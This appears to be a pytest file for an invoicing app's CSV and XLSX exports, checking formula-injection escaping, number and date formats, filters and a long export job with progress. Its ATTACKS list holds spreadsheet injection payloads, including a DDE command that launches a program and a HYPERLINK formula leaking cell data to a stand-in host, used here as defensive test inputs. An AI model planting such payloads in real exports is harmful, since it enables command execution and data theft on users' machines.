"""Exports: no live formulas, numbers as numbers, dates as dates, long ones as a job with progress."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
import sqlalchemy as sa
from sqlalchemy.orm import Session

from haas import db, progress
from haas.files import StoredFile
from haas.ids import new_id
from haas.outbox import OutboxEvent
from haas.pages.downloads import Cell
from haas.tenancy.models import Client
from invoicing.bulk import insert_rows
from invoicing.exports import requests as exports
from invoicing.exports.csv import csv_pieces
from invoicing.exports.rows import header
from invoicing.exports.xlsx import write_xlsx
from invoicing.jobs import export_invoices
from invoicing.models import Invoice
from invoicing.queries import InvoiceFilter
from tests.cast import Cast
from tests.invoicing.world import APRIL, NOW, an_invoice

# What a spreadsheet may run: plain, behind blanks and control signs, in full width, and as old commands.
ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://x.example?leak="&A1)',
    "=cmd|' /C calc'!A0",
    "|calc",
    "%0A=1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]
HARMLESS = ["Acme Dental", "3-in-1 dock", "a=b", "10 %", "ap@acme.example", "", " "]


def csv_bytes(rows: list[list[Cell]], **options: Any) -> bytes:
    return b"".join(csv_pieces(header=["text", "amount"], rows=rows, **options))


def sheet_of(rows: list[list[Cell]], titles: list[str] | None = None) -> Any:
    target = io.BytesIO()
    write_xlsx(target, title="t", header=titles or ["text", "amount"], rows=rows)
    return openpyxl.load_workbook(target).active


class TestCsv:
    @pytest.mark.parametrize("text", ATTACKS)
    def test_puts_what_could_run_behind_an_apostrophe(self, text: str) -> None:
        (_, row) = csv.reader(io.StringIO(csv_bytes([[text, 1]]).decode("utf-8-sig"), newline=""))
        assert row[0] == f"'{text}"

    @pytest.mark.parametrize("text", HARMLESS)
    def test_leaves_other_texts_alone(self, text: str) -> None:
        (_, row) = csv.reader(io.StringIO(csv_bytes([[text, 1]]).decode("utf-8-sig"), newline=""))
        assert row[0] == text

    def test_writes_negative_amounts_as_numbers_and_days_as_iso(self) -> None:
        moment = datetime(2026, 4, 1, 12, 0, 0, 123, tzinfo=UTC)
        rows: list[list[Cell]] = [[Decimal("-30.00"), Decimal("1E+3")], [date(2026, 4, 1), moment]]
        assert csv_bytes(rows).decode("utf-8-sig").splitlines()[1:] == [
            "-30.00,1000",
            "2026-04-01,2026-04-01T12:00:00+00:00",
        ]

    def test_gives_programs_texts_as_they_are(self) -> None:
        assert csv_bytes([["=1+1", 1]], raw=True) == b"text,amount\r\n=1+1,1\r\n"

    def test_comes_in_pieces(self) -> None:
        rows: Iterator[list[Cell]] = (["x" * 100, number] for number in range(10_000))
        pieces = list(csv_pieces(header=["text", "number"], rows=rows))
        assert len(pieces) > 10
        assert max(map(len, pieces)) < 70_000


class TestXlsx:
    @pytest.mark.parametrize("text", [text for text in ATTACKS if text.isprintable()])
    def test_never_makes_a_formula_or_a_link(self, text: str) -> None:
        sheet = sheet_of([[text, 1], ["http://x.example/leak", 2]])
        assert (sheet["A2"].value, sheet["A2"].data_type) == (text, "s")
        assert sheet["A3"].hyperlink is None

    def test_writes_amounts_as_numbers_and_days_as_dates(self) -> None:
        sheet = sheet_of([[Decimal("-1234.500"), date(2026, 4, 1)], [3, datetime(2026, 4, 1, 9, tzinfo=UTC)]])
        assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].number_format) == (
            -1234.5,
            "n",
            "#,##0.00",
        )
        assert sheet["B2"].value == datetime(2026, 4, 1)  # noqa: DTZ001 - a sheet's dates have no zone
        assert sheet["B2"].number_format == "yyyy-mm-dd"
        assert sheet["B3"].value == datetime(2026, 4, 1, 9)  # noqa: DTZ001 - the same
        assert sheet.freeze_panes == "B2"
        assert sheet.auto_filter.ref == "A1:B3"


class TestRows:
    def test_are_the_documents_with_signed_amounts_and_what_is_open(
        self, session: Session, cast: Cast
    ) -> None:
        an_invoice(session, cast.tenant, client_id=cast.acme.id)
        session.execute(
            sa.update(Client).where(Client.id == cast.acme.id).values(name="=Acme()", name_norm="=acme()")
        )
        (row,) = table(session, cast)
        assert row["number"] == "INV-2026-00001"
        assert row["client"] == "'=Acme()"
        assert (row["net"], row["tax"], row["total"], row["open"]) == (
            "156.00",
            "12.48",
            "168.48",
            "168.48",
        )
        assert (row["issued on"], row["due on"]) == ("2026-04-01", "2026-04-15")
        assert row["state"] == "overdue"

    def test_are_the_lines_with_their_last_day_and_serials(self, session: Session, cast: Cast) -> None:
        an_invoice(session, cast.tenant, client_id=cast.acme.id)
        interim, rent = table(session, cast, content="lines")
        assert (interim["period from"], interim["period to"]) == ("2026-03-11", "2026-03-31")
        assert (rent["charge"], rent["net"], rent["tax rate %"]) == ("rent", "93.00", "8")
        assert rent["serials"].startswith("SN-")

    def test_are_exactly_what_the_filter_names(self, session: Session, cast: Cast) -> None:
        an_invoice(session, cast.tenant, client_id=cast.acme.id)
        assert table(session, cast, where=InvoiceFilter(client_id=cast.globex.id)) == []
        assert table(session, cast, where=InvoiceFilter(issued_until=APRIL)) == []
        assert len(table(session, cast, where=InvoiceFilter(issued_from=APRIL, state="open"))) == 1


class TestLongExport:
    def test_of_ten_thousand_rows_is_a_job_with_progress(self, cast: Cast) -> None:
        with db.unit_of_work(cast.tenant) as session:
            _many_invoices(session, cast, count=10_000)
            asked = exports.Export(InvoiceFilter(), "documents", "xlsx", today=APRIL)
            assert exports.size(session, cast.tenant, export=asked) > exports.AT_ONCE_MAX
            job = exports.start(session, cast.tenant, export=asked)
            (event,) = session.scalars(
                sa.select(OutboxEvent).where(OutboxEvent.name == "invoice_export.requested")
            )
        seen: list[int] = []
        watch = _watch(seen)
        sa.event.listen(db.engine(), "before_cursor_execute", watch)
        for _ in range(2):
            export_invoices(partner_id=cast.northwind.id, event_id=event.id, **event.payload)
        sa.event.remove(db.engine(), "before_cursor_execute", watch)

        with db.unit_of_work(cast.tenant) as session:
            done = progress.get(session, cast.tenant, job_id=job.id)
            (stored,) = session.scalars(sa.select(StoredFile))
            assert (done.state, done.total, done.file_id) == ("done", 10_000, stored.id)
            with ZipFile(io.BytesIO(stored.content)) as book:
                assert book.read("xl/worksheets/sheet1.xml").count(b"<row ") == 10_001
        assert seen == sorted(seen)
        assert len(set(seen)) >= 10  # it told how far it was while it wrote

    def test_keeps_its_filter_with_the_job(self) -> None:
        asked = exports.Export(
            InvoiceFilter(state="overdue", issued_from=APRIL, is_sent=False), "lines", "csv", today=APRIL
        )
        assert exports.from_json(exports.as_json(asked)) == asked


def table(session: Session, cast: Cast, **wanted: Any) -> list[dict[str, str]]:
    """The export as a spreadsheet reads it."""
    asked = exports.Export(
        wanted.get("where", InvoiceFilter()), wanted.get("content", "documents"), "csv", today=NOW.date()
    )
    content = exports.write_now(session, cast.tenant, export=asked).decode("utf-8-sig")
    found = list(csv.DictReader(io.StringIO(content)))
    assert not found or tuple(found[0]) == header(asked.content)
    return found


def _watch(seen: list[int]) -> Any:
    def watch(_c: Any, _cursor: Any, statement: str, parameters: Any, *_: Any) -> None:
        if statement.startswith("UPDATE long_job") and "done" in (parameters or {}):
            seen.append(int(parameters["done"]))

    return watch


def _many_invoices(session: Session, cast: Cast, *, count: int) -> None:
    insert_rows(
        session,
        Invoice,
        [
            {
                "partner_id": cast.northwind.id,
                "id": new_id("inv"),
                "client_id": cast.acme.id,
                "kind": "invoice",
                "number": f"INV-2026-{number:05d}",
                "state": "issued",
                "currency": "USD",
                "issued_on": APRIL,
                "due_on": APRIL,
                "net_total": Decimal(100),
                "tax_total": Decimal(8),
                "total": Decimal(108),
                "paid_total": Decimal(0),
                "reason": "",
                "document": {},
                "document_hash": "0" * 64,
                "created_at": NOW,
            }
            for number in range(count)
        ],
    )
